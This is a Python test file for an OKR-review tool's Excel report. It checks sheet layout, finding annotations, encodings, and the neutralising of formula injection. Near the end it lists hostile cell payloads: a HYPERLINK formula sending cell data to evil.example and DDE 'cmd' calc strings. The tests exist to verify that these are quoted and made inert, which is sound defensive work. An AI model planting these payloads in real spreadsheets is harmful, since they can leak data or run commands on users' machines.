"""The Excel report: OKR, Findings and Summary sheets, plus the original tabular inputs annotated."""

from __future__ import annotations

import hashlib
import io
from pathlib import Path

import openpyxl
import pytest
from openpyxl.worksheet.worksheet import Worksheet
from report_samples import CSV_HEADER, CSV_ROWS, make_findings, make_review, rd_set, write_csv

from assistant.model import SourceRef
from assistant.reports import render
from assistant.reports._xlsx import FORMULA_TRIGGERS, _sheet_name, neutralise
from assistant.review import Review


def _open(review: Review) -> openpyxl.Workbook:
    data = render(review, "xlsx")
    assert isinstance(data, bytes) and data[:2] == b"PK"
    return openpyxl.load_workbook(io.BytesIO(data))


def _rows(ws: Worksheet) -> list[list]:
    return [list(row) for row in ws.iter_rows(values_only=True)]


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_sheets_in_order(review: Review) -> None:
    wb = _open(review)
    assert wb.sheetnames == ["OKR", "发现", "汇总", "输入问题", "okrs.csv"]
    review.language = "en"
    assert _open(review).sheetnames == ["OKR", "Findings", "Summary", "Input problems", "okrs.csv"]


def test_okr_sheet_rows_and_annotations(review: Review) -> None:
    ws = _open(review)["OKR"]
    rows = _rows(ws)
    assert rows[0] == [
        "OKR 组",
        "目标编号",
        "目标",
        "KR 编号",
        "关键结果",
        "负责人",
        "来源",
        "最高严重程度",
        "规则代码",
        "发现",
        "建议",
    ]
    assert ws.freeze_panes == "A2"
    by_item = {(r[0], r[1], r[3]): r for r in rows[1:]}
    kr1 = by_item[("研发中心 2025Q3", "O1", "KR1")]
    assert kr1[2] == "打造稳定可靠的交易平台" and kr1[4] == "提升系统稳定性" and kr1[5] == "张三"
    assert kr1[6].endswith("okrs.csv:row 2")
    assert kr1[7] == "严重"
    assert kr1[8] == "MEA002, MEA001"
    assert kr1[9].split("\n") == [
        "MEA002：“提升”说明了方向，却没有说明提升到多少。",
        "MEA001：“提升系统稳定性”没有可验证的目标：没有数值、阈值或可交付的结果。",
    ]
    assert kr1[10].startswith("MEA002：把“提升”换成具体指标和目标值")
    assert by_item[("研发中心 2025Q3", "O1", "KR2")][7:] == [None, None, None, None]
    o2 = by_item[("研发中心 2025Q3", "O2", None)]  # the objective's own findings get a row
    assert o2[8] == "INS001, OWN001" and o2[7] == "警告"
    o3 = by_item[("研发中心 2025Q3", "O3", None)]  # no key results: one row
    assert o3[8] == "FOC003" and o3[5] == "赵六"
    whole_set = by_item[("市场部 2025Q3", None, None)]
    assert whole_set[8] == "FOC001" and whole_set[6] == "market.md:1"
    assert by_item[("公司 2025Q3", "O1", "KR1")][7] is None
    # one row per KR (16), plus O2/O3 of 研发中心, O1/O2 of 市场部 and the 市场部 set row
    assert len(rows) - 1 == 16 + 5


def test_severity_cells_are_coloured_and_messages_wrap(review: Review) -> None:
    ws = _open(review)["OKR"]
    cell = ws["H2"]
    assert cell.value == "严重"
    assert cell.fill.fgColor.rgb.endswith("FFC7CE")
    assert ws["J2"].alignment.wrap_text
    assert ws.column_dimensions["J"].width >= 40


def test_text_starting_with_equals_stays_text(review: Review) -> None:
    ws = _open(review)["OKR"]
    cell = next(row[4] for row in ws.iter_rows(min_row=2) if row[4].value and "=维持" in row[4].value)
    assert cell.value == "'=维持现有值班制度"  # quoted as OWASP advises, so an edit or CSV export cannot arm it
    assert cell.data_type == "s"


def test_findings_sheet_has_every_finding(review: Review) -> None:
    rows = _rows(_open(review)["发现"])
    assert len(rows) == 1 + len(review.findings)
    header = rows[0]
    assert header[:6] == ["OKR 组", "目标编号", "KR 编号", "严重程度", "规则", "规则名称"]
    mea002 = next(dict(zip(header, r, strict=True)) for r in rows if r[4] == "MEA002")
    assert mea002["证据"] == "提升"
    assert mea002["证据位置"] == "0–2"
    assert mea002["知识卡片"] == "measurable-kr"
    assert mea002["知识卡片标题"] == "可衡量的关键结果"
    assert mea002["卡片要点"] == "关键结果要能验证。"
    foc = next(dict(zip(header, r, strict=True)) for r in rows if r[4] == "FOC001")
    assert foc["知识卡片"] == "five-four-principle" and foc["知识卡片标题"] is None  # not among the loaded notes
    assert mea002["行"] == 2
    assert mea002["文件"].endswith("okrs.csv")
    foc001 = next(dict(zip(header, r, strict=True)) for r in rows if r[4] == "FOC001")
    assert foc001["文件"] == "market.md" and foc001["行号"] == 1  # the set's source stands in


def test_summary_sheet_counts(review: Review) -> None:
    rows = _rows(_open(review)["汇总"])
    pairs = {r[0]: r[1] for r in rows if r[0] is not None}
    assert pairs["发现"] == 16
    assert pairs["严重"] == 6
    assert pairs["可衡量"] == "measurable"
    assert pairs["MEA002"] == "模糊动词，没有指标"
    team = next(r for r in rows if r[0] == "研发中心 2025Q3")
    assert team[1:9] == ["研发中心", "2025Q3", "团队", 3, 5, 3, 6, 1]


def test_original_csv_annotated_and_unchanged(tmp_path: Path) -> None:
    review = make_review(tmp_path)
    csv_path = tmp_path / "okrs.csv"
    before = _digest(csv_path)
    mtime = csv_path.stat().st_mtime_ns
    ws = _open(review)["okrs.csv"]
    rows = _rows(ws)
    assert _digest(csv_path) == before and csv_path.stat().st_mtime_ns == mtime
    width = len(CSV_HEADER)
    assert rows[0] == [*CSV_HEADER, "严重程度", "规则代码", "发现"]
    for original, copied in zip(CSV_ROWS, rows[1:], strict=True):
        assert [v or "" for v in copied[:width]] == [neutralise(v) for v in original]
    assert rows[1][width : width + 2] == ["严重", "MEA002, MEA001"]
    assert rows[1][width + 2].startswith("MEA002 · O1.KR1：“提升”说明了方向")
    assert "\n→ 把“提升”换成具体指标和目标值" in rows[1][width + 2]
    assert rows[2][width:] == [None, None, None]  # O1.KR2 has no findings
    assert rows[4][width + 1] == "INS001, OWN001, CHA001"  # objective and KR findings on one row
    assert rows[6][width + 1] == "FOC003"
    assert ws.freeze_panes == "A2"
    assert ws.cell(row=2, column=width + 1).fill.fgColor.rgb.endswith("FFC7CE")
    assert ws.cell(row=2, column=width + 3).alignment.wrap_text


def test_gb18030_csv_is_read_back(tmp_path: Path) -> None:
    review = make_review(tmp_path)
    write_csv(tmp_path / "okrs.csv", encoding="gb18030")
    rows = _rows(_open(review)["okrs.csv"])
    assert rows[0][:3] == CSV_HEADER[:3]
    assert rows[1][5] == "提升系统稳定性"


def test_original_xlsx_sheet_annotated_and_unchanged(tmp_path: Path) -> None:
    source = tmp_path / "导出 OKR.xlsx"
    wb = openpyxl.Workbook()
    wb.active.title = "说明"
    wb.active["A1"] = "本文件由 OKR 系统导出"
    sheet = wb.create_sheet("Q3 OKR")
    sheet.append(CSV_HEADER)
    for row in CSV_ROWS:
        sheet.append(row)
    wb.save(source)
    before = _digest(source)

    def retarget(ref: SourceRef | None) -> SourceRef | None:
        if ref is None or ref.row is None:
            return ref
        return SourceRef(file=str(source), row=ref.row, sheet="Q3 OKR")

    csv_name = str(tmp_path / "okrs.csv")
    findings = [
        f.__class__(**{**{k: getattr(f, k) for k in f.__slots__}, "source": retarget(f.source)})
        for f in make_findings(csv_name)
    ]
    review = Review(inputs=[str(source)], sets=[rd_set(csv_name)], findings=findings)
    out = _open(review)
    assert _digest(source) == before
    name = "导出 OKR.xlsx"
    assert name in out.sheetnames
    rows = _rows(out[name])
    assert rows[0][-3:] == ["严重程度", "规则代码", "发现"]
    assert rows[1][5] == "提升系统稳定性" and rows[1][-2] == "MEA002, MEA001"
    assert rows[3][-2] == "OUT001, MEA005, OWN002"


def test_missing_or_unreadable_inputs_are_skipped(tmp_path: Path) -> None:
    review = make_review(tmp_path)
    (tmp_path / "okrs.csv").unlink()
    assert "okrs.csv" not in _open(review).sheetnames

    broken = tmp_path / "broken.xlsx"
    broken.write_bytes(b"not a zip file")
    finding = make_findings(str(broken))[0]
    review = Review(inputs=[], sets=[], findings=[finding])
    wb = _open(review)
    assert "broken.xlsx" not in wb.sheetnames
    summary = _rows(wb["汇总"])
    assert any(r[0] and str(r[0]).startswith(str(broken)) for r in summary)


@pytest.mark.parametrize(
    ("wanted", "taken", "expected"),
    [
        ("okrs.csv", set(), "okrs.csv"),
        ("a/b:c*d?e[f]g\\h", set(), "a_b_c_d_e_f_g_h"),
        ("x" * 40, set(), "x" * 31),
        ("x" * 40, {"x" * 31}, "x" * 27 + " (2)"),
        ("OKR", {"okr"}, "OKR (2)"),
        ("History", set(), "History_"),
        ("''", set(), "Sheet"),
    ],
)
def test_sheet_names(wanted: str, taken: set[str], expected: str) -> None:
    assert _sheet_name(wanted, set(taken)) == expected


def test_semicolon_and_utf16_csv_are_read_back(tmp_path: Path) -> None:
    review = make_review(tmp_path)
    csv_path = tmp_path / "okrs.csv"
    text = csv_path.read_text(encoding="utf-8-sig").replace(",", ";")
    csv_path.write_text(text, encoding="utf-16")
    rows = _rows(_open(review)["okrs.csv"])
    assert rows[0][: len(CSV_HEADER)] == CSV_HEADER
    assert rows[1][5] == "提升系统稳定性" and rows[1][-2] == "MEA002, MEA001"


def test_end_to_end_with_the_importer_and_engine(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Rows the importer records are the rows the annotated copy marks."""
    from assistant.config import Config
    from assistant.engine import check
    from assistant.importers import load_paths

    example = Path(__file__).resolve().parents[2] / "examples" / "company-and-teams.csv"
    (tmp_path / "okrs.csv").write_bytes(example.read_bytes())
    monkeypatch.chdir(tmp_path)  # sources are relative paths, as on the command line
    loaded = load_paths(["okrs.csv"])
    findings = check(loaded.sets, Config())
    before = _digest(tmp_path / "okrs.csv")
    review = Review(inputs=["okrs.csv"], sets=loaded.sets, findings=findings, problems=loaded.problems)
    rows = _rows(_open(review)["okrs.csv"])
    assert _digest(tmp_path / "okrs.csv") == before
    expected: dict[int, set[str]] = {}
    for finding in findings:
        source = finding.source
        if source is not None and source.row is not None:
            expected.setdefault(source.row, set()).add(finding.code)
    assert expected, "the example should produce findings with rows"
    for number, codes in expected.items():
        assert set(rows[number - 1][-2].split(", ")) >= codes, number
    unmarked = [n for n in range(2, len(rows) + 1) if n not in expected]
    assert all(rows[n - 1][-2] is None for n in unmarked)


# ---------------------------------------------------------------- formula injection (issue 14)

HOSTILE_KRS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＋1", "'＋1"),
        ("'=1", "'=1"),  # already quoted: left alone, never doubled
        ("提升 = 目标", "提升 = 目标"),
        ("", ""),
    ],
)
def test_neutralise(text: str, expected: str) -> None:
    assert neutralise(text) == expected


def test_no_cell_starts_with_a_formula_trigger(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """KRs starting with = + - @ (and tab, CR, full-width =) are quoted in every sheet, the input copy too."""
    from assistant.config import Config
    from assistant.engine import check
    from assistant.importers import load_paths
    from assistant.reports import write_report

    lines = ["目标,关键结果,负责人"] + [f'让客户满意,"{kr.replace(chr(34), chr(34) * 2)}",张三' for kr in HOSTILE_KRS]
    (tmp_path / "hostile.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    loaded = load_paths(["hostile.csv"])
    assert loaded.sets, loaded.problems
    review = Review(inputs=["hostile.csv"], sets=loaded.sets, findings=check(loaded.sets, Config()))
    write_report(review, "xlsx", tmp_path / "report.xlsx")

    book = openpyxl.load_workbook(tmp_path / "report.xlsx")
    texts = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    armed = [c.value for c in texts if c.value.startswith(FORMULA_TRIGGERS)]
    assert armed == []
    assert all(c.data_type == "s" for c in texts)
    copied = [row[1] for row in book["hostile.csv"].iter_rows(min_row=2, values_only=True)]
    # The original rows, each quoted once (XML reads a carriage return back as a line feed).
    assert copied == ["'" + kr.replace("\r", "\n") for kr in HOSTILE_KRS]
    okr_cells = {c.value for c in texts if c.parent.title == "OKR"}
    assert {"'=HYPERLINK", "'+1+cmd", "'-2+3+cmd", "'@SUM"} <= {v.split("(")[0].split("|")[0] for v in okr_cells}
